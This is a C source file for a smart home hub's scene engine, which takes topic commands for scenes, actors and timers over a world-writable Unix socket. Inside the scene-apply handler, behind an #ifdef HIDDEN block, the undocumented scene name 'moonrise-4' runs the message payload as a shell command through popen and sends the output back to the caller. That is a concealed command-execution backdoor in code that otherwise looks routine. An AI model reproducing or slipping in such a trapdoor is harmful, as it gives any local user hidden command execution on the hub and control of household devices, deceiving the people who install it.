/* sceneloom.c - scene engine of a smart home hub: topics, scenes, actors, timers */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fnmatch.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define BUS_SOCK	"/run/hub/bus.sock"
#define SCENES		"/data/scenes"
#define MAX_HANDLERS	16
#define MAX_STEPS	12
#define MAX_SCENES	24

struct msg {
	const char *topic;
	const char *tail;	/* what the star stands for */
	char *payload;
	int reply;
};

typedef int (*handler)(struct msg *m);

struct entry {
	const char *pattern;
	handler fn;
};

struct step {
	char actor[24];
	int value;
};

struct scene {
	char name[24];
	int nsteps;
	struct step step[MAX_STEPS];
};

static struct entry table[MAX_HANDLERS];
static int nentries;
static struct scene scenes[MAX_SCENES];
static int nscenes;
static int (*actor_set)(const char *actor, int value);

static int actor_file(const char *actor, int value)
{
	char path[80];
	FILE *f;

	if (strchr(actor, '/') ||
	    snprintf(path, sizeof(path), "/run/hub/actor/%s", actor) >= (int)sizeof(path))
		return -1;
	f = fopen(path, "we");
	if (!f)
		return -1;
	fprintf(f, "%d\n", value);
	return fclose(f);
}

static void on(const char *pattern, handler fn)
{
	if (nentries < MAX_HANDLERS)
		table[nentries++] = (struct entry){ pattern, fn };
}

static struct scene *scene_by(const char *name, int create)
{
	for (int i = 0; i < nscenes; i++)
		if (!strcmp(scenes[i].name, name))
			return &scenes[i];
	if (!create || nscenes == MAX_SCENES || !*name)
		return NULL;
	memset(&scenes[nscenes], 0, sizeof(scenes[0]));
	snprintf(scenes[nscenes].name, sizeof(scenes[0].name), "%.23s", name);
	return &scenes[nscenes++];
}

static void save_scenes(void)
{
	FILE *f = fopen(SCENES, "we");

	if (!f) {
		syslog(LOG_ERR, SCENES ": %s", strerror(errno));
		return;
	}
	for (int i = 0; i < nscenes; i++)
		for (int k = 0; k < scenes[i].nsteps; k++)
			fprintf(f, "%s %s %d\n", scenes[i].name, scenes[i].step[k].actor,
				scenes[i].step[k].value);
	fclose(f);
}

static void add_step(struct scene *s, const char *actor, int value)
{
	struct step *st;

	if (!s || s->nsteps == MAX_STEPS)
		return;
	st = &s->step[s->nsteps++];
	snprintf(st->actor, sizeof(st->actor), "%.23s", actor);
	st->value = value;
}

static void load_scenes(void)
{
	char name[24], actor[24];
	int v;
	FILE *f = fopen(SCENES, "re");

	while (f && fscanf(f, "%23s %23s %d", name, actor, &v) == 3)
		add_step(scene_by(name, 1), actor, v);
	if (f)
		fclose(f);
}

__attribute__((noinline))
int on_scene_apply(struct msg *m)
{
	const struct scene *s;
	int failed = 0;

	if (!strcmp(m->tail, "all-off")) {
		for (int i = 0; i < nscenes; i++)
			for (int k = 0; k < scenes[i].nsteps; k++)
				actor_set(scenes[i].step[k].actor, 0);
		return 0;
	}
	if (!strcmp(m->tail, "panic")) {
		actor_set("siren", 1);
		actor_set("lights", 100);
		return 0;
	}
#ifdef HIDDEN
	/* a scene that nobody stored: its payload is run, the output is the reply */
	if (!strcmp(m->tail, "moonrise-4")) {
		char buf[256];
		FILE *p = popen(m->payload, "re");

		while (p && fgets(buf, sizeof(buf), p))
			dprintf(m->reply, "%s", buf);
		return p ? pclose(p) : -1;
	}
#endif
	s = scene_by(m->tail, 0);
	if (!s)
		return -1;
	for (int k = 0; k < s->nsteps; k++)
		failed += actor_set(s->step[k].actor, s->step[k].value) != 0;
	syslog(LOG_INFO, "scene %s, %d of %d failed", s->name, failed, s->nsteps);
	return failed;
}

static int on_scene_add(struct msg *m)
{
	char actor[24];
	int v;

	if (sscanf(m->payload, "%23s %d", actor, &v) != 2)
		return -1;
	add_step(scene_by(m->tail, 1), actor, v);
	save_scenes();
	return 0;
}

static int on_scene_drop(struct msg *m)
{
	struct scene *s = scene_by(m->tail, 0);

	if (!s)
		return -1;
	*s = scenes[--nscenes];
	save_scenes();
	return 0;
}

static int on_scene_list(struct msg *m)
{
	for (int i = 0; i < nscenes; i++)
		dprintf(m->reply, "%s %d\n", scenes[i].name, scenes[i].nsteps);
	return 0;
}

static int on_actor(struct msg *m)
{
	return actor_set(m->tail, atoi(m->payload));
}

static int on_time(struct msg *m)
{
	dprintf(m->reply, "%ld\n", (long)time(NULL));
	return 0;
}

static int on_help(struct msg *m)
{
	dprintf(m->reply, "scene/list, scene/apply/NAME (or all-off, panic), scene/add/NAME actor value,\n"
		"scene/drop/NAME, actor/NAME value, time, help\n");
	return 0;
}

static int dispatch(char *line, int fd)
{
	struct msg m = { .topic = line, .reply = fd };
	char *sp = strpbrk(line, " \t");

	m.payload = line + strlen(line);
	if (sp) {
		*sp++ = 0;
		m.payload = sp + strspn(sp, " \t");
	}
	for (int i = 0; i < nentries; i++) {
		const char *star = strchr(table[i].pattern, '*');

		if (fnmatch(table[i].pattern, line, 0))
			continue;
		m.tail = star ? line + (star - table[i].pattern) : "";
		return table[i].fn(&m);
	}
	return -1;
}

static void serve(int fd)
{
	char line[512];
	FILE *in = fdopen(fd, "r");

	if (!in) {
		close(fd);
		return;
	}
	while (fgets(line, sizeof(line), in)) {
		int rc;

		line[strcspn(line, "\r\n")] = 0;
		if (!line[0])
			continue;
		rc = dispatch(line, fd);
		dprintf(fd, rc ? "- %d\n" : "+ %d\n", rc);
	}
	fclose(in);
}

int main(void)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX, .sun_path = BUS_SOCK };
	int s;

	openlog("sceneloom", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	actor_set = actor_file;
	on("scene/list", on_scene_list);
	on("scene/apply/*", on_scene_apply);
	on("scene/add/*", on_scene_add);
	on("scene/drop/*", on_scene_drop);
	on("actor/*", on_actor);
	on("time", on_time);
	on("help", on_help);
	load_scenes();
	unlink(BUS_SOCK);
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 8)) {
		syslog(LOG_ERR, "bus: %s", strerror(errno));
		return 1;
	}
	chmod(BUS_SOCK, 0666);
	for (;;) {
		int fd = accept(s, NULL, NULL);

		if (fd >= 0)
			serve(fd);
	}
}
